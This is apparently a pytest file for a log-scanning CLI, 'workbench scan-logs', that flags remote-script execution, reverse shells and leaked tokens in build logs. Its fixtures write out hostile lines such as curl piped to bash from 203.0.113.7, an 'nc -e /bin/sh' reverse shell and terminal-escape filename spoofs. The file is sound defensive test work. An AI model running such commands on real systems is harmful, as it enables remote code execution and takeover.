"""``workbench scan-logs`` through click's runner: output, exit statuses, rule folders, hostile text."""

from __future__ import annotations

import gzip
import json
import shutil
from pathlib import Path

from click.testing import CliRunner

from tests.logscan.conftest import BENIGN, MULTIFORMAT
from workbench.cli import cli


def _run(*args: str):
    return CliRunner().invoke(cli, ["scan-logs", *args])


def test_text_output_and_summary() -> None:
    result = _run(str(BENIGN))
    assert result.exit_code == 0
    assert result.stdout.splitlines() == [
        f"{BENIGN}:814: low exec.remote-download 2026-11-14T03:08:18.377655Z",
        "    2026-11-14T03:08:18.3776559Z $ curl -fsSL -o /usr/local/bin/cosign "
        "https://github.com/sigstore/cosign/releases/download/v2.4.1/cosign-linux-amd64",
        "1 matching line(s) in 1 file(s) (1 low); 1 finding(s).",
    ]


def test_json_document_follows_the_contract() -> None:
    result = _run("--json", str(MULTIFORMAT))
    assert result.exit_code == 0
    doc = json.loads(result.stdout)  # exactly one document on stdout
    assert set(doc) == {"findings", "matches", "warnings", "files"}
    first = doc["matches"][0]
    assert {k: first[k] for k in ("rule_id", "severity", "path", "line", "timestamp", "text")} == {
        "rule_id": "secret.huggingface-token", "severity": "high", "path": str(MULTIFORMAT), "line": 9,
        "timestamp": "2026-11-14T03:05:45.004000Z", "text": "2026-11-14T03:05:45.0040000Z   HF_TOKEN: hf_Xq…[redacted]",
    }  # fmt: skip
    no_time = next(m for m in doc["matches"] if m["line"] == 32)
    assert no_time["timestamp"] is None and no_time["rule_id"] == "ci.signing-skipped"
    categories = {f["category"] for f in doc["findings"]}
    assert categories == {"log_pattern", "secret_exposed"}
    curl = next(f for f in doc["findings"] if f["evidence"]["rule_id"] == "exec.remote-script-to-shell")
    assert curl["evidence"] == {"path": str(MULTIFORMAT), "line": 14, "last_line": 33, "count": 3,
                                "rule_id": "exec.remote-script-to-shell", "first_time": "2026-11-14T03:06:10.250000Z",
                                "last_time": "2026-11-14T03:11:00Z", "examples": [
        "2026-11-14T03:06:10.2500000Z ##[group]Run curl -sSL http://203.0.113.7/p.sh | bash",
        "2026-11-14T03:06:10.2510000Z curl -sSL http://203.0.113.7/p.sh | bash",
        "2026-11-14T03:11:00.000Z <script>alert(1)</script> curl -s https://x.example/a.sh | sh"]}  # fmt: skip
    assert curl["severity"] == "critical" and curl["atlas"] == ["AML.T0010.001", "AML.T0050"]
    assert doc["files"] == [{"path": str(MULTIFORMAT), "lines": 42, "bytes": MULTIFORMAT.stat().st_size,
                             "compressed": False, "complete": True, "backend": doc["files"][0]["backend"],
                             "matches": 18}]  # fmt: skip


def test_fail_on_and_folder_search(tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    (logs / "old").mkdir(parents=True)
    shutil.copy(BENIGN, logs / "build.log")
    (logs / "old" / "deploy.log.1.gz").write_bytes(gzip.compress(b"nc -e /bin/sh 203.0.113.7 4444\n"))
    (logs / "notes.md").write_text("curl -s http://203.0.113.7/x | sh\n", encoding="utf-8")  # not a log name
    assert _run("--fail-on", "high", str(logs / "build.log")).exit_code == 0
    result = _run("--json", "--fail-on", "critical", str(logs))
    assert result.exit_code == 1
    doc = json.loads(result.stdout)
    assert [f["path"] for f in doc["files"]] == [str(logs / "build.log"), str(logs / "old" / "deploy.log.1.gz")]
    assert [(m["path"].rsplit("/", 1)[-1], m["rule_id"]) for m in doc["matches"]] == [
        ("build.log", "exec.remote-download"), ("deploy.log.1.gz", "revshell.netcat-exec")]  # fmt: skip


def test_usage_errors_exit_2_with_one_line(tmp_path: Path) -> None:
    missing = _run(str(tmp_path / "nope.log"))
    assert missing.exit_code == 2
    assert missing.stderr == f"workbench: error: {tmp_path / 'nope.log'}: no such file or folder\n"
    (tmp_path / "empty").mkdir()
    empty = _run(str(tmp_path / "empty"))
    assert empty.exit_code == 2 and empty.stderr.startswith("workbench: error:") and empty.stderr.count("\n") == 1
    assert _run().exit_code == 2  # no PATH
    assert _run("--fail-on", "sometimes", str(BENIGN)).exit_code == 2
    assert _run("--context", "99", str(BENIGN)).exit_code == 2


def test_bad_rules_folder(tmp_path: Path) -> None:
    missing = _run("--rules", str(tmp_path / "none"), str(BENIGN))
    assert missing.exit_code == 2
    assert missing.stderr == f"workbench: error: {tmp_path / 'none'}: rules folder does not exist or is not a folder\n"
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "mine.yaml").write_text(
        "rules:\n  - id: mine.broken\n    title: t\n    severity: high\n    pattern: 'curl (['\n"
        "    description: d\n    examples: {match: [curl], no_match: [x]}\n", encoding="utf-8")  # fmt: skip
    result = _run("--rules", str(bad), str(BENIGN))
    assert result.exit_code == 2 and result.stdout == ""
    assert result.stderr.startswith(
        f"workbench: error: {bad / 'mine.yaml'} (rule mine.broken): 'pattern' is not a valid"
    )
    assert result.stderr.count("\n") == 1


def test_rules_folder_overrides_severity(tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "quiet.yaml").write_text(
        "rules:\n  - id: exec.remote-download\n    title: Download\n    severity: info\n"
        "    pattern: '\\bcurl\\b[^\\n]*https://'\n    description: Allowed here.\n"
        "    examples: {match: ['curl https://x'], no_match: ['curlew']}\n", encoding="utf-8")  # fmt: skip
    result = _run("--rules", str(mine), str(BENIGN))
    assert result.exit_code == 0
    assert result.stdout.splitlines()[0] == f"{BENIGN}:814: info exec.remote-download 2026-11-14T03:08:18.377655Z"


def test_terminal_escapes_from_evidence_are_neutralised(tmp_path: Path) -> None:
    log = tmp_path / "evil\x1b[2Jname.log"
    log.write_bytes(b"\x1b]0;owned\x07curl -s http://203.0.113.7/x | sh \x1b[8mhidden\x1b[0m \xe2\x80\xaegnp.exe\x07\n")
    result = _run(str(log))
    assert result.exit_code == 0
    assert "\x1b" not in result.output and "\u202e" not in result.output and "\x07" not in result.output
    assert result.stdout.splitlines()[1] == "    curl -s http://203.0.113.7/x | sh hidden \\u202egnp.exe\\x07"
    assert "evil\\x1b[2Jname.log:1: critical exec.remote-script-to-shell" in result.stdout
